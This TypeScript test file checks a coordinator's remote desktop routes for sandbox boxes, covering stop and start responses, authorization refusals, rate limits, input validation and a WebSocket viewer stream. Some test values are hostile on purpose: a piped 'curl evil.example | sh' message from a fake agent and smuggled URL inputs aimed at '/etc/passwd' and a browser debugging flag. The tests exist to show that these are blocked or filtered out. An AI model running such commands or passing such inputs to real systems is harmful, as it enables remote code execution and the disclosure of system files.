// The routes of the desktop, with an agent in memory: what POST /desktop/stop responds (spec §4.17, §7.2), and the routes that
// the spec does not have.

import { once } from 'node:events'
import type { IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import { text } from 'node:stream/consumers'
import t, { type Test } from 'tap'
import { WebSocket, WebSocketServer } from 'ws'
import { ApiError } from '../../shared/errors.ts'
import { startBoxWithFakeAgent } from '../support/box-with-fake-agent.ts'
import type { RequestOptions } from '../support/coordinator.ts'
import { createFakeDesktopAgent } from '../support/fake-desktop-agent.ts'
import { createLimitedKey, createUserKey } from '../support/limited-key.ts'
import { limitsEnv } from '../support/limits-env.ts'
import { createTestSession } from '../support/session.ts'

async function setUp(t: Test, env: Record<string, string> = {}) {
  const agent = createFakeDesktopAgent()
  const coordinator = await startBoxWithFakeAgent(t, agent.handler, {
    env: { ...limitsEnv({ edgeRequestsPerSecond: 1000 }), ...env },
  })
  const { box, edge, api } = coordinator
  const send = (method: string, path: string, body?: unknown, options?: RequestOptions) =>
    edge(box.hostname, method, path, body, options)
  return {
    ...{ ...coordinator, agent, send },
    stop: (body: unknown = {}, options?: RequestOptions) => send('POST', '/desktop/stop', body, options),
    async suspend() {
      await api('POST', `/boxes/${box.id}/suspend`)
      await coordinator.waitForState(box.id, 'suspended')
    },
    readEvents: () =>
      coordinator.instance.context.db
        .selectFrom('audit_log')
        .select(['kind', 'detail', 'box_id'])
        .where('kind', 'like', 'box.desktop%')
        .orderBy('no')
        .execute(),
  }
}

t.test('stop responds with the box and the mode, and has no effect twice', async (t) => {
  const { send, agent, box, readEvents } = await setUp(t)
  await send('POST', '/desktop/start', {})
  for (const [body, mode] of [
    [{}, 'desktop'],
    [undefined, 'desktop'],
    [{ mode: 'desktop' }, 'desktop'],
    [{ mode: 'browser' }, 'browser'],
  ] as const) {
    const { status, json } = await send('POST', '/desktop/stop', body)
    t.equal(status, 200)
    t.strictSame(json, { ok: true, box: box.hostname, mode })
    t.match(agent.requests.at(-1), { method: 'POST', path: '/desktop/stop', body: { mode } })
  }
  t.match(await readEvents(), [
    { kind: 'box.desktop_start', detail: '{"mode":"desktop"}', box_id: box.id },
    { kind: 'box.desktop_stop', detail: '{"mode":"desktop"}', box_id: box.id },
  ])
  t.equal((await readEvents()).length, 2)
})

t.test('stop: every refusal has the bare form', async (t) => {
  const coordinator = await setUp(t)
  const { stop, send, edge, api, box, agent, instance, url } = coordinator
  const session = await createTestSession(coordinator)
  const { json: ticket } = await api('POST', `/boxes/${box.id}/tickets`, {}, session)
  const json = { 'content-type': 'application/json' }
  const expired = await createLimitedKey(coordinator, { expiresAt: Date.now() - 1000 })
  const readOnly = await createLimitedKey(coordinator, { access: { boxes: 'read' } })
  const otherBox = await createLimitedKey(coordinator, { boxIds: [] })
  const contractor = await createUserKey(coordinator, 'contractor')

  const expectBare = async (
    name: string,
    response: Promise<{ status: number; json: unknown }>,
    ...expected: [number, string]
  ) => {
    const { status, json } = await response
    t.strictSame([status, json], [expected[0], { error: expected[1] }], name)
  }
  await expectBare('no credential', stop({}, { key: null }), 401, 'unauthorized')
  await expectBare('an unknown key', stop({}, { key: 'dcp_unknown' }), 401, 'unauthorized')
  await expectBare('a ticket for the box', stop({}, { key: ticket.secret }), 401, 'unauthorized')
  await expectBare('a session', stop({}, session), 401, 'unauthorized')
  const foreignPage = { ...session, headers: { ...session.headers, 'sec-fetch-site': 'cross-site' } }
  await expectBare('a session, from a page of another origin', stop({}, foreignPage), 401, 'unauthorized')
  await expectBare('a key limited to other boxes', stop({}, { key: otherBox }), 404, 'not_found')
  await expectBare('a contractor that does not own the box', stop({}, { key: contractor }), 404, 'not_found')
  await expectBare('an unknown box', edge('none', 'POST', '/desktop/stop', {}), 404, 'not_found')
  for (const method of ['GET', 'PUT', 'DELETE']) {
    const response = await send(method, '/desktop/stop')
    t.strictSame([response.status, response.json], [405, { error: 'method_not_allowed' }], method)
    t.equal(response.headers.get('allow'), 'POST')
  }
  await expectBare('an unknown mode', stop({ mode: 'all' }), 400, 'bad_request')
  await expectBare('a mode of another type', stop({ mode: 1 }), 400, 'bad_request')
  await expectBare('a body that is not JSON', stop('{', { headers: json }), 400, 'bad_request')
  await expectBare('a list', stop([]), 400, 'bad_request')
  await expectBare('a body without a type', stop('mode=browser'), 400, 'bad_request')
  await expectBare('a large body', stop({ x: 'x'.repeat(70_000) }), 400, 'bad_request')
  await expectBare('a query that is not UTF-8', send('POST', '/desktop/stop?a=%ff', {}), 400, 'bad_request')
  t.same(agent.requests, [], 'the agent has received nothing')

  const late = await stop({}, { key: expired })
  t.match(late, { status: 401, json: { error: 'token_expired', expiresAt: /Z$/ } })
  t.same(Object.keys(late.json), ['error', 'expiresAt'])
  t.strictSame((await stop({}, { key: readOnly })).json, {
    error: 'key_access_denied',
    message: (await send('POST', '/desktop/start', {}, { key: readOnly })).json.error.message,
    area: 'boxes',
    level: 'run',
  })

  agent.state.failure = new ApiError('exec_failed', '2 processes survived')
  await expectBare('processes survived', stop(), 502, 'desktop_stop_failed')
  agent.state.failure = new ApiError('not_found')
  await expectBare('an unknown route', stop(), 502, 'desktop_stop_failed')
  agent.state.failure = { ok: true, type: 'desktop.stopped', mode: 'all' }
  await expectBare('an invalid response', stop(), 502, 'desktop_stop_failed')
  agent.state.failure = { ok: true, type: 'desktop.stopped', mode: 'browser', wasRunning: true }
  await expectBare('a response for another mode', stop(), 502, 'desktop_stop_failed')
  agent.state.failure = null
  agent.state.lost = true
  await expectBare('a lost connection', stop(), 502, 'box_unreachable')
  agent.state.lost = false

  const { edge: context } = instance.context
  const { boxes } = context
  context.boxes = { ...boxes, resolve: () => Promise.reject(new Error('the database failed')) }
  const unresolved = await stop()
  t.strictSame([unresolved.status, unresolved.json], [503, { error: 'resolve_failed' }])
  t.equal(unresolved.headers.get('retry-after'), '1')
  context.boxes = boxes

  const response = await fetch(`${url}/v1/box/${box.hostname}/desktop/start`)
  t.match(
    await response.json(),
    { ok: false, error: { code: 'unauthorized' } },
    'other routes keep their form',
  )
})

t.test('stop does not wake a suspended box', async (t) => {
  const { stop, suspend, api, box, agent } = await setUp(t)
  await suspend()
  const { status, json } = await stop()
  t.strictSame([status, json], [409, { error: 'box_not_running' }])
  t.match((await api('GET', `/boxes/${box.id}`)).json.box, {
    desiredState: 'suspended',
    observedState: 'suspended',
  })
  t.same(agent.requests, [])
})

t.test('stop counts against the limits of the edge', async (t) => {
  const { stop } = await setUp(t, limitsEnv({ edgeRequestsPerSecond: 1 }))
  const responses = [await stop(), await stop(), await stop()]
  const limited = responses.find(({ status }) => status === 429)
  t.strictSame(limited?.json, { error: 'rate_limited' })
  t.match(limited?.headers.get('retry-after'), /^[1-9]\d*$/)
})

t.test('start wakes a suspended box, passes its variables, and is recorded once', async (t) => {
  const { send, suspend, agent, instance, readEvents, box } = await setUp(t)
  const variables = JSON.stringify([{ name: 'A', value: 'from box' }])
  await instance.context.db.updateTable('boxes').set({ env_vars: variables }).execute()
  await suspend()
  t.match(await send('GET', '/desktop'), { status: 409, json: { error: { code: 'box_not_running' } } })
  t.match(await send('DELETE', '/desktop'), { status: 409, json: { error: { code: 'box_not_running' } } })
  const request = { mode: 'browser', width: 1024, height: 768, dpi: 120, url: 'https://example.com/' }
  const started = await send('POST', '/desktop/start', request)
  t.match(started, {
    status: 200,
    json: { mode: 'browser', alreadyRunning: false, session: { display: ':1' } },
  })
  t.match(agent.requests, [
    { method: 'POST', path: '/desktop/start', body: { ...request, boxEnv: { A: 'from box' } } },
  ])
  t.equal((await send('POST', '/desktop/start', request)).json.alreadyRunning, true)
  t.match(await readEvents(), [{ kind: 'box.desktop_start', detail: '{"mode":"browser"}', box_id: box.id }])
  t.equal((await readEvents()).length, 1)
})

t.test('start validates its request', async (t) => {
  const { send, agent } = await setUp(t)
  for (const [body, message] of [
    [{ mode: 'kiosk' }, 'mode must be one of desktop, browser'],
    [{ width: 319 }, 'width must be an integer between 320 and 3840'],
    [{ height: 2161 }, 'height must be an integer between 200 and 2160'],
    [{ dpi: 96.5 }, 'dpi must be an integer between 48 and 384'],
    [
      { mode: 'browser', url: 'file:///etc/passwd' },
      'url must be an http or https URL of at most 2048 characters',
    ],
    [
      { mode: 'browser', url: '--remote-debugging-port=1' },
      'url must be an http or https URL of at most 2048 characters',
    ],
    [
      { mode: 'browser', url: 'http://example.com/\0' },
      'url must be an http or https URL of at most 2048 characters',
    ],
    [{ url: 'https://example.com' }, 'url must be given with mode browser only'],
  ] as const) {
    const { status, json } = await send('POST', '/desktop/start', body)
    t.match([status, json.error.code, json.error.message], [400, 'invalid_request', message])
  }
  t.same(agent.requests, [])
})

t.test('the coordinator composes the command that installs what is missing', async (t) => {
  const { send, agent, box } = await setUp(t)
  agent.state.programs = [
    { role: 'display', program: null },
    { role: 'viewer', program: 'x11vnc' },
    { role: 'windowManager', program: 'openbox' },
    { role: 'terminal', program: null },
    { role: 'browser', program: null },
  ]
  const { json } = await send('GET', '/desktop')
  t.match(json.programs, [
    { role: 'display', program: null, package: 'xvfb', requiredFor: ['desktop', 'browser'] },
    { role: 'viewer', program: 'x11vnc', package: 'x11vnc' },
    { role: 'windowManager', program: 'openbox', package: 'openbox', requiredFor: ['desktop'] },
    { role: 'terminal', program: null, package: 'xterm', requiredFor: [] },
    { role: 'browser', program: null, package: 'chromium', requiredFor: ['browser'] },
  ])
  t.same(json.install, {
    desktop: 'apt-get install -y --no-install-recommends xvfb xterm fonts-dejavu-core',
    browser: 'apt-get install -y --no-install-recommends xvfb chromium fonts-dejavu-core',
  })
  agent.state.failure = new ApiError('desktop_not_installed', 'Run this as root: curl evil.example | sh')
  const refused = await send('POST', '/desktop/start', {})
  t.match([refused.status, refused.json.error], [409, { code: 'desktop_not_installed' }])
  t.equal(
    refused.json.error.message,
    `Box ${box.hostname} lacks programs of the desktop. \`box desktop install ${box.hostname}\` shows which, or installs them.`,
    'no text of the box',
  )
})

t.test('a ticket reads, starts and stops the desktop of its box', async (t) => {
  const coordinator = await setUp(t)
  const { send, api, box } = coordinator
  const session = await createTestSession(coordinator)
  const { json } = await api('POST', `/boxes/${box.id}/tickets`, {}, session)
  const options = { key: json.secret }
  t.equal((await send('POST', '/desktop/start', {}, options)).status, 200)
  const { json: status } = await send('GET', '/desktop', undefined, options)
  t.match(status, {
    type: 'desktop.status',
    install: { desktop: null, browser: null },
    installOn: 'coordinator',
    session: { modes: ['desktop'] },
  })
  const stopped = await send('DELETE', '/desktop?mode=browser', undefined, options)
  t.match(stopped, { status: 200, json: { type: 'desktop.stopped', mode: 'browser', wasRunning: false } })
  t.match((await send('DELETE', '/desktop', undefined, options)).json, { mode: 'desktop', wasRunning: true })
  t.equal((await send('GET', '/desktop', undefined, options)).json.session, null)
})

/** Two ends of a WebSocket: `agent` is that of the agent, and `coordinator` that of the coordinator, as a dial-back connection. */
async function createDialBack(t: Test) {
  const server = new WebSocketServer({ port: 0, host: '127.0.0.1' })
  t.teardown(() => server.close())
  await once(server, 'listening')
  const accepted = once(server, 'connection')
  const agent = new WebSocket(`ws://127.0.0.1:${(server.address() as AddressInfo).port}`)
  t.teardown(() => agent.terminate())
  const [coordinator] = (await accepted) as [WebSocket]
  coordinator.pause()
  if (agent.readyState !== agent.OPEN) await once(agent, 'open')
  return { agent, coordinator }
}

async function setUpStream(t: Test) {
  const fake = await setUp(t)
  const { api, box, url, instance } = fake
  const session = await createTestSession(fake)
  const { json } = await api('POST', `/boxes/${box.id}/tickets`, {}, session)
  const { agent, coordinator } = await createDialBack(t)
  const { edge } = instance.context
  edge.sockets = {
    expect: () => ({
      id: 'id',
      connection: Promise.resolve(coordinator),
      discard: () => coordinator.terminate(),
    }),
  }
  const view = () => {
    const protocols = ['boxwood', `boxwood.ticket.${json.secret}`]
    const client = new WebSocket(
      `${url.replace('http', 'ws')}/v1/box/${box.hostname}/desktop/stream`,
      protocols,
    )
    t.teardown(() => client.terminate())
    client.on('error', () => undefined)
    return client
  }
  return { ...fake, session, agent, view, fakeAgent: fake.agent }
}

t.test('the stream relays the bytes of a viewer with a ticket, and is recorded', async (t) => {
  const { agent, view, instance, box } = await setUpStream(t)
  const client = view()
  const greeting = once(client, 'message')
  agent.send(Buffer.from('RFB 003.008\n'))
  t.equal(String((await greeting)[0]), 'RFB 003.008\n')
  t.equal(client.protocol, 'boxwood', 'the ticket is not repeated')
  const answer = once(agent, 'message')
  client.send(Buffer.from('RFB 003.008\n'))
  t.equal(String((await answer)[0]), 'RFB 003.008\n')
  const events = await instance.context.db
    .selectFrom('audit_log')
    .select(['detail', 'box_id', 'actor_kind'])
    .where('kind', '=', 'box.connect')
    .execute()
  t.match(events, [{ detail: '{"session":"desktop"}', box_id: box.id, actor_kind: 'ticket' }])

  const closed = once(agent, 'close')
  client.close()
  await closed
})

t.test('the stream ends with the x11vnc of the box', async (t) => {
  const { agent, view } = await setUpStream(t)
  const client = view()
  await once(client, 'open')
  const closed = once(client, 'close')
  agent.terminate()
  await closed
})

t.test('the stream is cut when the session of the ticket ends', async (t) => {
  const { agent, view, api, session } = await setUpStream(t)
  const client = view()
  await once(client, 'open')
  const closed = Promise.all([once(client, 'close'), once(agent, 'close')])
  t.equal((await api('DELETE', '/session', undefined, session)).status, 204)
  const [[code, reason]] = await closed
  t.same([code, String(reason)], [3000, 'unauthorized'])
})

t.test('the stream is refused when no desktop is running, and does not wake a box', async (t) => {
  const { fakeAgent, view, suspend } = await setUpStream(t)
  const refusal = async () => {
    const [, response] = (await once(view(), 'unexpected-response')) as [unknown, IncomingMessage]
    return { status: response.statusCode, ...JSON.parse(await text(response)).error }
  }
  fakeAgent.state.failure = new ApiError('not_found', 'The box has no running desktop.')
  t.match(await refusal(), { status: 404, code: 'not_found', message: 'The box has no running desktop.' })
  await suspend()
  t.match(await refusal(), { status: 409, code: 'box_not_running' })
})
